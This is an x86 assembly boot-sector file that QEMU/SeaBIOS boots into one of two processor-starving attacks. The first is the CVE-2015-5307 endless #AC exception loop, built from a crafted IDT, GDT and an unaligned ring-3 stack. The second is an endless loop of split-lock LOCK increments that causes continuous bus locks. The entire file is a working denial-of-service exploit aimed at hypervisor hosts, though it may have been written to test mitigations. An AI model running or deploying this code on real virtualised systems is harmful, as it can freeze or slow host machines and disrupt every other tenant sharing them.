; SPDX-License-Identifier: MIT
;
; Boot sectors that want the processor for themselves, for QEMU's SeaBIOS to start. ATTACK chooses:
;	1  #AC whose delivery raises #AC, for ever (CVE-2015-5307): no event window opens
;	2  LOCK on a cache-line split, for ever: each one a bus lock. Every 256th prints a dot on COM1
	bits 16
	org 0x7c00
	cli
	xor ax, ax
	mov ds, ax
	mov ss, ax
	mov sp, 0x7c00
	mov dx, 0x3f8
	mov al, '>'
	out dx, al
	lgdt [gdtr]
	lidt [idtr]
	mov eax, cr0
	or eax, 0x40001		; AM, PE
	mov cr0, eax
	jmp 8:start32

	bits 32
start32:
	mov ax, 0x10
	mov ds, ax
	mov es, ax
	mov ss, ax
	mov esp, 0x7000
%if ATTACK == 1
	push dword 0x23		; SS
	push dword 0x6001	; ESP: not aligned
	push dword 0x40002	; EFLAGS.AC
	push dword 0x1b		; CS
	push dword ring3
	iret
ring3:
	mov eax, [ss:0x6001]	; IRET has taken DS away from ring 3
	jmp ring3
%else
ring3:
	xor ecx, ecx
again:
	lock inc dword [0x603e]
	inc ecx
	test ecx, 255
	jnz again
	mov dx, 0x3f8
	mov al, '.'
	out dx, al
	jmp again
%endif

	align 8
gdt:	dq 0
	dq 0x00cf9b000000ffff
	dq 0x00cf93000000ffff
	dq 0x00cffb000000ffff
	dq 0x00cff3000000ffff
gdtr:	dw 39
	dd gdt
idtr:	dw 18 * 8 - 1
	dd idt
idt:	times 17 dq 0
	dw ring3, 0x1b, 0xef00, 0	; #AC: trap gate, DPL 3, to ring 3
	times 510 - ($ - $$) db 0
	dw 0xaa55
